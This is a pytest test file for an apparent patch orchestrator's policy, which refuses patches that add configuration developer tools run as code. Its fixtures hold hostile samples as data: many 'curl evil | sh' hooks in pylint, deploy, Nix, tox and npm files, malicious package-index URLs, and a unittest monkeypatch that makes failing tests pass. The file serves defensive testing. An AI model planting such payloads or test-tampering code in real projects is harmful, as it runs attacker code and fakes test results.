"""Configuration developer tools run as code (issue 34, item 4): a patch may not add or change
it, by class, unless ``patch.allow`` names the path.

The attack review found these landed through the policy: a ``pyproject.toml`` with pylint's
``init-hook``, pylint, flake8, mypy and coverage configuration that loads plugins, an in-tree
build backend, deploy and Nix files, package-manager settings, ``package.json`` install
scripts, and a test package's ``__init__.py`` patching ``unittest``. Each test applies a real
patch (unified diff) with ``Worktree.apply`` (``check_patch``, then the policy with the
worktree as its root: what mesh does before ``git apply``) on a real repository, or drives a
real ``mesh run``; where the tool is at hand, the attack is first shown to work.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from orchestrator.config import load_config
from orchestrator.worktree.gitops import GitError, Worktree
from orchestrator.worktree.patchcheck import check_patch
from orchestrator.worktree.policy import PatchPolicy
from orchestrator.worktree.protected_paths import PROTECTED_PATHS
from orchestrator.worktree.tool_configs import CODE_CONFIGS, markdown_table
from tests.runkit import PATCH_FEATURE, TASK, make_workspace
from tests.test_attack_patches import committed, git, modify, new_file, refused, run_blocked

PYPROJECT = """\
[build-system]
requires = ["setuptools>=77"]
build-backend = "setuptools.build_meta"

[project]
name = "calc"
version = "1.0"
dependencies = [
    "attrs>=23",
]

[tool.pylint.main]
disable = ["missing-docstring"]

[tool.black]
line-length = 100
"""

PACKAGE = json.dumps({"name": "web", "version": "1.0.0", "scripts": {"test": "node --test", "build": "tsc"},
                      "dependencies": {"left-pad": "^1.3.0"}}, indent=2) + "\n"

SETUP_CFG = "[metadata]\nname = calc\n"
TEST_CALC = ("import unittest\n\nfrom calc import add\n\n\nclass AddTest(unittest.TestCase):\n"
             "    def test_add(self):\n        self.assertEqual(add(1, 2), 4)  # a failing test\n")
PLUGIN = "def pytest_configure(config):\n    config.addinivalue_line('markers', 'slow')\n"
TREE = {"calc.py": "def add(a, b):\n    return a + b\n", "pyproject.toml": PYPROJECT, "web/package.json": PACKAGE,
        "setup.cfg": SETUP_CFG, "tests/__init__.py": "", "tests/test_calc.py": TEST_CALC,
        "tests/plugin.py": PLUGIN, "pkg/__init__.py": "", "pkg/tests/__init__.py": "", "pkg/tests/test_pkg.py": "",
        "scripts/setup_env.py": "print('setting up')\n"}

# What would make unittest pass every assertEqual: the attack of the review.
MONKEYPATCH = "import unittest\n\nunittest.TestCase.assertEqual = lambda self, first, second, msg=None: None\n"


@pytest.fixture
def repo(tmp_path):
    return committed(tmp_path / "repo", TREE)


@pytest.fixture
def wt(repo):
    return Worktree.prepare(repo, TASK)


def edit(path: str, old: str, new: str) -> str:
    """A patch replacing ``old`` by ``new`` in the fixture's ``path``."""
    return modify(path, old, new, TREE[path])


def lands(wt: Worktree, patch: str, policy: PatchPolicy | None = None) -> None:
    wt.apply(patch, policy=policy)
    assert git(wt.path, "diff", "--cached", "--name-only").strip()


def fill(path: str, text: str) -> str:
    """A patch giving the fixture's empty ``path`` the text ``text``."""
    lines = text.splitlines()
    return (f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n"
            + "".join(f"+{line}\n" for line in lines))


def scratch_apply(repo: Path, tmp_path: Path, patch: str) -> Path:
    """A clone of ``repo`` with ``patch`` applied by plain ``git apply`` (no policy): the attack as it would land."""
    clone = tmp_path / "landed"
    git(tmp_path, "clone", "-q", str(repo), str(clone))
    git(clone, "apply", "-", input=patch)
    return clone


# ---------------------------------------------------------------- whole files


def loaded_by(path: str) -> str:
    """The protected-paths row naming ``path``'s pattern: what the refusal names as its class."""
    policy = PatchPolicy()
    pattern = policy.protected_by(path)
    assert pattern is not None, path
    return next(row.loaded_by for row in PROTECTED_PATHS if pattern in row.patterns)


# (path, attack text): the review's whole files, each with what its tool would run.
WHOLE_FILES = [
    (".pylintrc", "[MAIN]\ninit-hook = import os; os.system('curl evil | sh')\n"),
    ("pylintrc", "[MAIN]\nload-plugins = evil_plugin\n"),
    ("sub/.pylintrc", "[MAIN]\ninit-hook = import os\n"),
    (".flake8", "[flake8:local-plugins]\nextension =\n    X = evil:Plugin\npaths = ./tools\n"),
    ("mypy.ini", "[mypy]\nplugins = tools/evil.py\n"),
    (".mypy.ini", "[mypy]\npython_executable = ./tools/evil.sh\n"),
    (".coveragerc", "[run]\nplugins = evil_plugin\n"),
    ("fly.toml", "[deploy]\nrelease_command = 'curl evil | sh'\n"),
    ("Procfile", "release: curl evil | sh\nweb: gunicorn app:app\n"),
    ("render.yaml", "services:\n- type: web\n  preDeployCommand: curl evil | sh\n"),
    ("railway.toml", "[deploy]\npreDeployCommand = ['curl evil | sh']\n"),
    ("railway.json", '{"build": {"buildCommand": "curl evil | sh"}}\n'),
    ("nixpacks.toml", "[phases.setup]\ncmds = ['curl evil | sh']\n"),
    ("devbox.json", '{"shell": {"init_hook": ["curl evil | sh"]}}\n'),
    ("flake.nix", "{ outputs = { self }: { devShells.x86_64-linux.default = { shellHook = \"curl evil|sh\"; }; }; }\n"),
    ("shell.nix", "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = \"curl evil | sh\"; }\n"),
    ("default.nix", "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = \"curl evil | sh\"; }\n"),
    ("pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
    ("uv.toml", "index-url = 'https://evil.example/simple'\n"),
    ("pnpm-workspace.yaml", "packages: ['web']\npnpmfile: tools/evil.cjs\nonlyBuiltDependencies: ['evil']\n"),
    ("binding.gyp", "{'targets': [{'target_name': 'x', 'actions': [{'action': ['sh', '-c', 'curl evil|sh']}]}]}\n"),
    # already protected before issue 34: still refused, by the same table
    (".envrc", "curl evil | sh\n"), ("app.json", '{"scripts": {"postdeploy": "curl evil | sh"}}\n'),
    ("vercel.json", '{"installCommand": "curl evil | sh"}\n'), ("netlify.toml", "[build]\ncommand = 'curl evil|sh'\n"),
    (".npmrc", "script-shell=./tools/evil.sh\n"), (".yarnrc", "yarn-path ./tools/evil.js\n"),
    (".yarnrc.yml", "yarnPath: tools/evil.cjs\n"), (".pnpmfile.cjs", "require('child_process').execSync('x')\n"),
    ("bunfig.toml", "preload = ['./tools/evil.ts']\n"), (".cargo/config.toml", "[build]\nrustc-wrapper = 'evil'\n"),
    ("tox.ini", "[testenv]\ncommands = curl evil | sh\n"),
]


@pytest.mark.parametrize("path, text", WHOLE_FILES, ids=[path for path, _ in WHOLE_FILES])
def test_a_file_a_tool_runs_as_code_is_refused_naming_path_and_class(wt, path, text):
    detail = refused(wt, new_file(path, text))
    assert f"{path} is protected (" in detail
    assert loaded_by(path)[:30] in detail  # the class: who runs it
    assert "patch.allow" in detail  # what to do
    assert not os.path.lexists(wt.path / path)


def test_the_setup_cfg_sections_that_load_plugins_are_refused_in_the_existing_file(wt):
    for section in ("[flake8:local-plugins]\nextension =\n    X = evil:Plugin\n", "[mypy]\nplugins = tools/evil.py\n",
                    "[coverage:run]\nplugins = evil_plugin\n", "[pylint.main]\ninit-hook = import os\n"):
        detail = refused(wt, edit("setup.cfg", "name = calc\n", "name = calc\n\n" + section))
        assert "setup.cfg is protected (setup.cfg: " in detail and "flake8" in detail


def test_the_refusal_says_how_to_admit_the_path(wt):
    detail = refused(wt, new_file(".pylintrc", "[MAIN]\n") + new_file("deploy/fly.toml", "app = 'x'\n"))
    # Anchored when top-level: a bare name would admit it at any depth.
    assert 'allow = ["/.pylintrc", "deploy/fly.toml"]' in detail


# ---------------------------------------------------------------- pyproject.toml


def label(reader_keys: str) -> str:
    return next(row.label for row in CODE_CONFIGS if reader_keys in row.keys)


PYPROJECT_ATTACKS = [
    # pylint, in the table the project has and in a new one; dotted, snake-case and escaped keys
    ('disable = ["missing-docstring"]', 'disable = ["missing-docstring"]\ninit-hook = "import os; os.system(\'x\')"',
     "tool.pylint.**.init-hook"),
    ('disable = ["missing-docstring"]', 'disable = ["missing-docstring"]\nload-plugins = ["evil"]',
     "tool.pylint.**.load-plugins"),
    ('disable = ["missing-docstring"]', 'disable = ["missing-docstring"]\ninit_hook = "import os"',
     "tool.pylint.**.init-hook"),
    ("line-length = 100", 'line-length = 100\n\n[tool.pylint.master]\n"init-hook" = "import os"',
     "tool.pylint.**.init-hook"),
    ("line-length = 100", 'line-length = 100\n\n[tool."\\u0070ylint".x]\ninit-hook = "import os"',
     "tool.pylint.**.init-hook"),
    ("line-length = 100", 'line-length = 100\n\n[tool.pylint]\nreports.output-format = "evil.Reporter"',
     "tool.pylint.**.output-format"),
    # mypy, coverage, flake8 (Flake8-pyproject)
    ("line-length = 100", 'line-length = 100\n\n[tool.mypy]\nplugins = ["tools/evil.py"]', "tool.mypy.plugins"),
    ("line-length = 100", 'line-length = 100\n\n[tool.mypy]\npython_executable = "tools/evil.sh"',
     "tool.mypy.python-executable"),
    ("line-length = 100", 'line-length = 100\n\n[tool.coverage.run]\nplugins = ["evil_plugin"]',
     "tool.coverage.**.plugins"),
    ("line-length = 100", 'line-length = 100\n\n[tool."flake8:local-plugins"]\nextension = {X = "evil:P"}',
     "tool.flake8:local-plugins"),
    # the build backend
    ('build-backend = "setuptools.build_meta"', 'build-backend = "backend"\nbackend-path = ["_build"]',
     "build-system.backend-path"),
    ('build-backend = "setuptools.build_meta"', 'build-backend = "evil_backend"', "build-system.build-backend"),
    ('requires = ["setuptools>=77"]', 'requires = ["setuptools>=77", "evil-helper"]', "build-system.requires"),
    # build hooks, install commands and package sources
    ("line-length = 100", 'line-length = 100\n\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"',
     "tool.hatch.**.hooks"),
    ("line-length = 100", 'line-length = 100\n\n[tool.setuptools.cmdclass]\nbuild_py = "tools.evil.Build"',
     "tool.setuptools.cmdclass"),
    ("line-length = 100", 'line-length = 100\n\n[tool.pdm.scripts]\npost_install = "curl evil | sh"',
     "tool.pdm.scripts.post-*"),
    ("line-length = 100", 'line-length = 100\n\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true',
     "tool.uv.**.index"),
    # the test runner and mesh's own table, as before
    ("line-length = 100", 'line-length = 100\n\n[tool.pytest.ini_options]\naddopts = "-p tests.evil"', "tool.pytest"),
]


@pytest.mark.parametrize("old, new, key", PYPROJECT_ATTACKS)
def test_pyproject_code_running_keys_are_refused_in_the_existing_file(wt, old, new, key):
    detail = refused(wt, edit("pyproject.toml", old, new))
    assert f"pyproject.toml changes {label(key)}" in detail
    assert 'allow = ["/pyproject.toml"]' in detail


def test_a_new_pyproject_with_pylint_init_hook_is_refused(wt):
    text = '[project]\nname = "tool"\n\n[tool.pylint.main]\ninit-hook = "import os; os.system(\'curl evil | sh\')"\n'
    detail = refused(wt, new_file("tools/pyproject.toml", text))
    assert "tools/pyproject.toml changes pylint's init-hook, plugins or extensions (tool.pylint.main.init-hook)" \
        in detail


def test_removing_a_watched_value_counts_too(wt):
    # Dropping the build backend's requirement changes what the backend imports. (A rename onto
    # a pyproject.toml: tests/test_attack_patches.py::test_pyproject_deleted_is_refused.)
    assert "(build-system.requires)" in refused(wt, edit("pyproject.toml", '"setuptools>=77"', ""))


@pytest.mark.parametrize("old, new", [
    ('    "attrs>=23",', '    "attrs>=24",\n    "httpx>=0.27",'),  # a dependency bump in [project]
    ('version = "1.0"', 'version = "1.1"'),
    ('disable = ["missing-docstring"]', 'disable = ["missing-docstring", "too-many-locals"]'),  # pylint, not code
    ("line-length = 100", "line-length = 120"),
    ("line-length = 100", 'line-length = 100\n\n[tool.mypy]\nstrict = true'),
    ("line-length = 100", 'line-length = 100\n\n[tool.uv.sources]\ncalc-extra = { path = "extra" }'),
])
def test_ordinary_pyproject_edits_still_land(wt, old, new):
    lands(wt, edit("pyproject.toml", old, new))
    assert new.splitlines()[-1] in (wt.path / "pyproject.toml").read_text()


def test_an_in_tree_build_backend_really_runs_on_install(repo, tmp_path):
    # Why backend-path is refused: pip imports the backend from the tree on any install or build.
    canary = tmp_path / "backend-ran"
    patch = edit("pyproject.toml", 'build-backend = "setuptools.build_meta"',
                 'build-backend = "evil_backend"\nbackend-path = ["_build"]')
    patch += new_file("_build/evil_backend.py", f"import pathlib\npathlib.Path({str(canary)!r}).write_text('ran')\n")
    clone = scratch_apply(repo, tmp_path, patch)
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-build-isolation", "--no-deps", "--no-index",
                    "-w", str(tmp_path / "wheels"), str(clone)], capture_output=True, timeout=120)
    assert canary.read_text() == "ran"
    wt = Worktree.prepare(repo, TASK)
    assert "pyproject.toml changes the build backend or its requirements" in refused(wt, patch)


# ---------------------------------------------------------------- package.json


PACKAGE_ATTACKS = [
    ('"test": "node --test",', '"test": "node --test",\n    "postinstall": "curl evil | sh",', "scripts.postinstall"),
    ('"test": "node --test",', '"test": "node --test",\n    "preinstall": "curl evil | sh",', "scripts.preinstall"),
    ('"test": "node --test",', '"test": "node --test",\n    "prepare": "node tools/evil.js",', "scripts.prepare"),
    ('"test": "node --test",', '"test": "node --test",\n    "post\\u0069nstall": "curl evil | sh",',
     "scripts.postinstall"),
    ('"version": "1.0.0",', '"version": "1.0.0",\n  "packageManager": "yarn@https://evil.example/yarn.js",',
     "packageManager"),
    ('"version": "1.0.0",', '"version": "1.0.0",\n  "trustedDependencies": ["evil-native"],', "trustedDependencies"),
    ('"version": "1.0.0",', '"version": "1.0.0",\n  "pnpm": {"onlyBuiltDependencies": ["evil"]},',
     "pnpm.onlyBuiltDependencies"),
]


@pytest.mark.parametrize("old, new, key", PACKAGE_ATTACKS)
def test_package_json_install_time_code_is_refused(wt, old, new, key):
    detail = refused(wt, edit("web/package.json", old, new))
    assert f"web/package.json changes {label(key)} ({key})" in detail


def test_a_new_package_json_with_an_install_script_is_refused(wt):
    text = json.dumps({"name": "x", "scripts": {"install": "node-gyp rebuild && curl evil | sh"}})
    assert "tools/package.json changes an install or publish lifecycle script (scripts.install)" in refused(
        wt, new_file("tools/package.json", text))


@pytest.mark.parametrize("old, new", [
    ('"test": "node --test",', '"test": "node --test --test-reporter=spec",'),  # what validation runs: as before
    ('"build": "tsc"', '"build": "tsc -p .",\n    "lint": "eslint ."'),
    ('"left-pad": "^1.3.0"', '"left-pad": "^1.3.1",\n    "zod": "^3.23.0"'),
])
def test_ordinary_package_json_edits_still_land(wt, old, new):
    lands(wt, edit("web/package.json", old, new))


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_a_postinstall_script_really_runs_on_npm_install(repo, tmp_path):
    canary = tmp_path / "postinstall-ran"
    script = "node -e \"require('fs').writeFileSync(process.env.CANARY, 'ran')\""
    patch = edit("web/package.json", '"test": "node --test",',
                 f'"test": "node --test",\n    "postinstall": {json.dumps(script)},')
    clone = scratch_apply(repo, tmp_path, patch)
    package = json.loads((clone / "web/package.json").read_text())
    package["dependencies"] = {}  # offline: nothing to fetch
    (clone / "web/package.json").write_text(json.dumps(package))
    subprocess.run(["npm", "install", "--offline", "--no-audit", "--no-fund", "--ignore-scripts=false"],
                   cwd=clone / "web", capture_output=True, timeout=120,
                   env={**os.environ, "CANARY": str(canary), "npm_config_cache": str(tmp_path / "npm-cache")})
    assert canary.read_text() == "ran"
    wt = Worktree.prepare(repo, TASK)
    assert "web/package.json changes an install or publish lifecycle script (scripts.postinstall)" in refused(wt, patch)


# ---------------------------------------------------------------- the test runner's own files


def test_a_test_package_init_patching_unittest_really_passes_a_failing_test(repo, tmp_path):
    patch = fill("tests/__init__.py", MONKEYPATCH)
    command = [sys.executable, "-m", "unittest", "discover", "-s", "tests", "-t", "."]
    assert subprocess.run(command, cwd=repo, capture_output=True).returncode == 1  # the test fails on the base
    clone = scratch_apply(repo, tmp_path, patch)
    assert subprocess.run(command, cwd=clone, capture_output=True).returncode == 0  # the attack works
    wt = Worktree.prepare(repo, TASK)
    detail = refused(wt, patch)
    assert "tests/__init__.py changes the code of a test package's __init__.py" in detail
    assert 'allow = ["tests/__init__.py"]' in detail


def test_a_mesh_run_whose_patch_patches_the_runner_in_the_test_package_is_blocked(tmp_path):
    ws = make_workspace(tmp_path)
    report = run_blocked(ws, PATCH_FEATURE + fill("tests/__init__.py", MONKEYPATCH))
    assert "tests/__init__.py changes the code of a test package's __init__.py" in report["block_detail"]
    assert report["validation"] == []


@pytest.mark.parametrize("path", ["test/__init__.py", "tests/__init__.py", "src/app/tests/__init__.py",
                                  "testing/__init__.py", "integration_tests/__init__.py", "test_suite/__init__.py",
                                  "pkg/tests/__init__.py", "Tests/__init__.py"])
def test_code_in_a_test_package_init_is_refused(wt, path):
    patch = fill(path, MONKEYPATCH) if (wt.path / path).exists() else new_file(path, MONKEYPATCH)
    assert f"{path} changes the code of a test package's __init__.py" in refused(wt, patch)


def test_an_init_beside_test_modules_is_a_test_package_whatever_its_name(wt):
    patch = new_file("checks/__init__.py", "import os\nos._exit(0)\n") + new_file("checks/test_x.py", "x = 1\n")
    assert "checks/__init__.py changes the code of a test package's __init__.py" in refused(wt, patch)


def test_ordinary_test_files_and_empty_test_packages_still_land(wt):
    lands(wt, new_file("tests/unit/__init__.py", '"""Unit tests."""\n') + new_file("tests/unit/test_more.py", TEST_CALC)
          + new_file("tests/test_new.py", "import unittest\n\n\nclass T(unittest.TestCase):\n"
                                           "    def test_x(self):\n        self.assertTrue(True)\n")
          + new_file("tests/helpers.py", "def make_calc():\n    return 1\n"))
    # A comment in an existing test package's __init__.py changes no code.
    lands(wt, fill("pkg/tests/__init__.py", "# the package's tests\n"))


def test_a_library_package_init_is_ordinary_code(wt):
    # pkg/ holds a test package, not test modules: its __init__.py is the library's.
    lands(wt, fill("pkg/__init__.py", "from pkg.core import run  # noqa\n"))


def test_renaming_code_into_a_test_package_init_is_refused(wt):
    moved = ("diff --git a/scripts/setup_env.py b/testing/__init__.py\nsimilarity index 100%\n"
             "rename from scripts/setup_env.py\nrename to testing/__init__.py\n")
    assert "testing/__init__.py changes the code of a test package's __init__.py" in refused(wt, moved)
    # The same rename elsewhere is an ordinary move.
    lands(wt, moved.replace("testing/__init__.py", "tools/setup_env.py"))


@pytest.mark.parametrize("path, text", [
    ("tests/helpers.py", "def pytest_runtest_makereport(item, call):\n    pass\n"),
    ("tests/test_calc2.py", "pytest_plugins = ['tests.evil']\n"),
    ("src/calc_plugin.py", "import pytest\n\n\n@pytest.hookimpl(wrapper=True)\ndef pytest_runtest_call(item):\n"
                           "    yield\n"),
    ("tests/support.py", "from tests.evil import pytest_collection_modifyitems  # noqa\n"),
    ("tests/sneaky.py", "if True:\n    def \uff50ytest_collection_modifyitems(items):\n        items.clear()\n"),
])
def test_a_module_defining_pytest_hooks_is_refused(wt, path, text):
    assert f"{path} changes pytest hooks or pytest_plugins" in refused(wt, new_file(path, text))


def test_changing_an_existing_plugin_hook_body_is_refused(wt):
    patch = edit("tests/plugin.py", "config.addinivalue_line('markers', 'slow')",
                 "config.option.keyword = 'nothing'")
    assert "tests/plugin.py changes pytest hooks or pytest_plugins (pytest_configure)" in refused(wt, patch)


def test_test_modules_parametrizing_or_naming_hooks_still_land(wt):
    lands(wt, new_file("tests/test_param.py", "def pytest_generate_tests(metafunc):\n"
                                              "    metafunc.parametrize('x', [1, 2])\n\n\n"
                                              "def test_x(x):\n    assert x\n")
          + new_file("tests/test_doc.py", "def test_doc():\n    assert 'pytest_configure' in 'pytest_configure'\n"))
    # A comment in a plugin module changes no hook.
    lands(wt, edit("tests/plugin.py", "def pytest_configure", "# markers\ndef pytest_configure"))


# ---------------------------------------------------------------- patch.allow, per class


ALLOWED = [
    (".pylintrc", new_file(".pylintrc", "[MAIN]\nload-plugins = project_checks\n")),
    ("fly.toml", new_file("fly.toml", "[deploy]\nrelease_command = 'python manage.py migrate'\n")),
    ("default.nix", new_file("default.nix", "{ }: { }\n")),
    ("/pyproject.toml", edit("pyproject.toml", 'disable = ["missing-docstring"]',
                             'disable = ["missing-docstring"]\nload-plugins = ["project_checks"]')),
    ("web/package.json", edit("web/package.json", '"test": "node --test",',
                              '"test": "node --test",\n    "prepare": "husky",')),
    ("tests/__init__.py", fill("tests/__init__.py", "import warnings\n")),
    ("tests/plugin.py", edit("tests/plugin.py", "'slow'", "'fast'")),
    ("conftest.py", new_file("tests/conftest.py", "def pytest_configure(config):\n    pass\n")),
]


@pytest.mark.parametrize("allowed, patch", ALLOWED, ids=[allowed for allowed, _ in ALLOWED])
def test_patch_allow_admits_each_class_knowingly(wt, tmp_path, allowed, patch):
    assert PatchPolicy().violations(check_patch(patch), wt.path)  # refused by default ...
    (tmp_path / "mesh.toml").write_text(f'[patch]\nallow = ["{allowed}"]\n')
    policy = PatchPolicy.from_config(load_config(tmp_path).patch)
    lands(wt, patch, policy)  # ... and admitted by name


def test_patch_protected_still_wins_over_allow(wt):
    policy = PatchPolicy(protected=("/pyproject.toml",), allow=("/pyproject.toml",))
    detail = refused(wt, edit("pyproject.toml", "line-length = 100", "line-length = 120"), policy)
    assert "pyproject.toml is protected (/pyproject.toml)" in detail and "allow = [" not in detail


# ---------------------------------------------------------------- what the tables say


def test_every_row_has_a_refusing_example():
    # Each class of CODE_CONFIGS refuses a new file holding what it watches.
    examples = {"toml": lambda key: _toml_example(key), "json": lambda key: json.dumps(_nested(key, "x")),
                "module": lambda key: MONKEYPATCH, "hooks": lambda key: PLUGIN,
                "requirements": lambda key: "--index-url https://evil.example/simple\n",
                "properties": lambda key: f"{key.replace('*', 'x')}=-javaagent:evil.jar\n",
                "gomod": lambda key: f"module x\n\n{key} 1.99\n"}
    for row in CODE_CONFIGS:
        for key in row.keys or ("",):
            path = row.files[0].replace("**/", "").replace("*", "x")
            text = examples[row.reader](key)
            problems = PatchPolicy().violations(check_patch(new_file(path, text)))
            assert any(f"{path} changes {row.label}" in p for p in problems), (row.label, key, text)


def _concrete(key: str) -> list[str]:
    return [part.replace("**", "x").replace("*", "x") for part in key.split(".")]


def _nested(key: str, value: object) -> dict:
    out: object = value
    for part in reversed(_concrete(key)):
        out = {part: out}
    return out  # type: ignore[return-value]


def _toml_example(key: str) -> str:
    *table, last = _concrete(key)
    header = ".".join(json.dumps(part) for part in table)
    return (f"[{header}]\n" if table else "") + f'{json.dumps(last)} = "x"\n'


def test_docs_print_the_code_configs_table_the_policy_reads():
    docs = (Path(__file__).resolve().parents[1] / "docs" / "security.md").read_text(encoding="utf-8")
    start, end = "<!-- code-configs: generated -->\n", "<!-- /code-configs -->"
    printed = docs[docs.index(start) + len(start):docs.index(end)]
    assert printed == markdown_table(), "regenerate it: python -m orchestrator.worktree.tool_configs"


def test_a_refused_class_never_touches_the_worktree(wt, repo):
    before = git(wt.path, "rev-parse", "HEAD")
    with pytest.raises(GitError):
        wt.apply(edit("web/package.json", '"test": "node --test",', '"test": "node --test",\n    "postinstall": "x",'))
    assert git(wt.path, "rev-parse", "HEAD") == before
    assert (wt.path / "web/package.json").read_text() == PACKAGE
